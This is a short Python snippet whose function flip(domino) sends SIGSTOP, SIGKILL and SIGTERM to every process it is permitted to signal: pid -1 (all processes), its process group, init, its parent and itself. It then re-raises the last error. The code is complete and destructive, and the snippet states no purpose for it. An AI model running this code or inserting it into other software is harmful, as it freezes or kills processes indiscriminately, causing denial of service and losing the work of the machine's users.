# Sends signals to all processes that it may.
import os, signal
def flip(domino):
    for pid in (-1, 0, 1, os.getppid(), os.getpid()):
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError as error:
                last = error
    raise last
